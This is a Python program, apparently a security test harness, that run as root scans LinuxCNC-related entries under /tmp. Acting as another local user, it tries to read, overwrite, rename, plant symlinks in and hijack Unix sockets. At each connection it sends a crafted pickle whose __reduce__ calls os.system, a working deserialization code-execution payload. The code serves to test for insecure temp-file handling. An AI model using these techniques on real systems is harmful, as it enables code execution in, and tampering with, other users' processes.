# SPDX-License-Identifier: GPL-2.0-or-later
"""Another user of the computer, who does what he can to the runs of the rest: a program for root.

Root finds what there is below /tmp; the user tries to read, write, replace and connect to it, and
prints where he succeeds. At both ends of a connection he sends a pickle that leaves a file.
"""

import contextlib
import os
import pickle
import socket
import stat
import struct
import sys
import threading
import time

USER = 12345
RUNS = ("g12-", "linuxcnc.")
MOVED = ".moved"
OPEN = ("/tmp/linuxcnc.lock",)  # LinuxCNC's own


class Bait:
    """Unpickled it runs a command."""

    def __reduce__(self):
        return os.system, ("id -u >/tmp/his/executed",)


def parcel():
    """Return the bait as multiprocessing's connections send it."""
    content = pickle.dumps(Bait())
    return struct.pack("!i", len(content)) + content


def entries():
    """Yield the paths of runs."""
    for top in os.listdir("/tmp"):
        if top.startswith(RUNS) and os.path.join("/tmp", top) not in OPEN:
            yield os.path.join("/tmp", top)
            for folder, _, names in os.walk(os.path.join("/tmp", top)):
                yield from (os.path.join(folder, name) for name in names)
                yield folder


def serve(listener):
    while True:
        caller, _ = listener.accept()
        with contextlib.suppress(OSError):
            caller.sendall(parcel())


def replace_socket(path):
    """Serve in place of a socket, but let LinuxCNC's realtime part start."""
    if path.endswith("/rtapi"):
        connect(path)
        return
    move(path)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    os.chmod(path, 0o777)
    threading.Thread(target=serve, args=[listener], daemon=True).start()


def connect(path):
    with socket.socket(socket.AF_UNIX) as caller:
        caller.connect(path)
        caller.sendall(parcel())


def plant(path):
    os.symlink("/tmp/his/target", os.path.join(path, "planted"))


def read(path):
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))


def write(path):
    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))


def move(path):
    os.rename(path, path + MOVED)


ATTEMPTS = {
    stat.S_IFDIR: (os.listdir, plant, move),
    stat.S_IFSOCK: (replace_socket,),
    stat.S_IFREG: (read, write, move),
    stat.S_IFIFO: (read, write, move),
}


def attack(path, kind):
    """Print the attempts that succeed."""
    for attempt in ATTEMPTS.get(kind, ()):
        try:
            attempt(path)
        except OSError:
            continue
        print(attempt.__name__, path, flush=True)


def main():
    os.setgroups([])
    os.mkdir("/tmp/his")
    os.chmod("/tmp/his", 0o777)
    print("here", flush=True)
    while True:
        for path in [*entries()]:
            try:
                status = os.lstat(path)
            except OSError:
                continue
            if status.st_uid != USER and not path.endswith(MOVED):
                os.setegid(USER), os.seteuid(USER)
                attack(path, stat.S_IFMT(status.st_mode))
                os.seteuid(0), os.setegid(0)
        time.sleep(0.01)


if __name__ == "__main__":
    sys.exit(main())
